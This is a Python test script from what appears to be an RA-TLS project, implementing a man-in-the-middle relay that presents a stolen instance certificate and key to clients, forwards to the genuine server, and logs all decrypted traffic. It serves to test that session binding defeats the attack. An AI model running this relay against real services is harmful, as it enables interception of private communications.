#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The relay attack on RA-TLS, to be run by hand: somebody between a client and a server, who has the
TLS key and the certificate of one genuine instance, and no enclave at all.

To the client it is that instance: its handshake proves the key, and the certificate's evidence is
genuine. To the server it is any client. What it hears on one side it says on the other, and it reads
it all. docs/explanation/ra-tls.md says what stops it and what does not.

    capsa ratls cert --platform sim-sgx --sim-dir SIM --out-cert stolen.crt --out-key stolen.key
    capsa ratls serve --platform sim-sgx --sim-dir SIM --listen 127.0.0.1:4001 --target 127.0.0.1:8000
    tests/relay/relay.py --cert stolen.crt --key stolen.key --target 127.0.0.1:4001 --listen 127.0.0.1:4002
    capsa ratls connect 127.0.0.1:4002 --sim-root SIM --policy POLICY

The last one refuses, by the check "session". With --insecure-unbound on both commands of capsa and
--unbound here it succeeds, and what is typed there is printed here."""
import argparse
import select
import socket
import ssl
import sys
import threading

BOUND = ["capsa-ratls/1", "capsa-ratls/1+h2"]
PIECE = 1 << 16


def address(text):
    host, _, port = text.rpartition(":")
    return host, int(port)


def context(protocol, cert, key, unbound):
    tls = ssl.SSLContext(protocol)
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    if cert:
        tls.load_cert_chain(cert, key)
    if not unbound:
        tls.set_alpn_protocols(BOUND[:1])
    return tls


class End:
    """One end's TLS over memory, so that each direction can end for itself, as its peer would have it."""

    def __init__(self, plain, tls, server_side):
        self.plain = plain
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = tls.wrap_bio(self.incoming, self.outgoing, server_side=server_side)
        self.is_over = False  # the peer's direction

    def flush(self):
        if self.outgoing.pending:
            self.plain.sendall(self.outgoing.read())

    def fill(self):
        data = self.plain.recv(PIECE)
        if data:
            self.incoming.write(data)
        else:
            self.incoming.write_eof()

    def shake(self):
        while True:
            try:
                self.tls.do_handshake()
                return self.flush()
            except ssl.SSLWantReadError:
                self.flush()
                self.fill()
            except ssl.SSLError:
                self.flush()  # the alert
                raise

    def read(self):
        """What there is without waiting."""
        parts = []
        while not self.is_over:
            try:
                parts.append(self.tls.read(PIECE))
                self.is_over = not parts[-1]
            except ssl.SSLWantReadError:
                break
            except ssl.SSLZeroReturnError:
                self.is_over = True
        return b"".join(parts)

    def write(self, data):
        self.tls.write(data)
        self.flush()

    def end(self):
        try:
            self.tls.unwrap()
        except ssl.SSLError:
            pass  # it goes on reading
        self.flush()


class Relay:
    def __init__(self, options):
        self.target = address(options.target)
        self.to_clients = context(ssl.PROTOCOL_TLS_SERVER, options.cert, options.key, options.unbound)
        self.to_server = context(ssl.PROTOCOL_TLS_CLIENT, options.client_cert, options.client_key, options.unbound)
        self.lock = threading.Lock()

    def tell(self, who, what):
        with self.lock:
            print("relay: %s: %s" % (who, what), flush=True)

    def pass_on(self, who, source, sink):
        """What has come; every byte of it is seen."""
        data = source.read()
        if data:
            self.tell(who, "%d bytes: %s" % (len(data), ascii(data[:200].decode("latin-1"))))
            sink.write(data)
        if source.is_over:
            self.tell(who, "ends")
            sink.end()

    def converse(self, client, server):
        names = {client.plain: ("client", client, server), server.plain: ("server", server, client)}
        for who, source, sink in names.values():
            self.pass_on(who, source, sink)
        while not (client.is_over and server.is_over):
            going = [plain for plain, (_, source, _) in names.items() if not source.is_over]
            for plain in select.select(going, [], [])[0]:
                who, source, sink = names[plain]
                source.fill()
                self.pass_on(who, source, sink)

    def handle(self, plain):
        with plain, socket.create_connection(self.target) as onward:
            try:
                server = End(onward, self.to_server, False)
                client = End(plain, self.to_clients, True)
                server.shake()
                client.shake()
                self.tell("handshake", "the client takes us for the instance, the server for a client")
                self.converse(client, server)
            except (OSError, ValueError) as error:
                self.tell("over", str(error))


def main():
    parser = argparse.ArgumentParser(description="The relay attack on RA-TLS.")
    parser.add_argument("--listen", required=True, help="HOST:PORT; port 0: any")
    parser.add_argument("--target", required=True, help="the genuine server")
    parser.add_argument("--cert", required=True, help="PEM: what was stolen")
    parser.add_argument("--key", required=True)
    parser.add_argument("--client-cert", help="PEM: the same of a genuine client, for servers that ask")
    parser.add_argument("--client-key")
    parser.add_argument("--unbound", action="store_true", help="plain RA-TLS: do not claim to bind sessions")
    options = parser.parse_args()
    relay = Relay(options)
    listener = socket.create_server(address(options.listen))
    print("relay: ready: %s:%d" % listener.getsockname()[:2], flush=True)
    while True:
        plain, _ = listener.accept()
        threading.Thread(target=relay.handle, args=(plain,), daemon=True).start()


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(130)
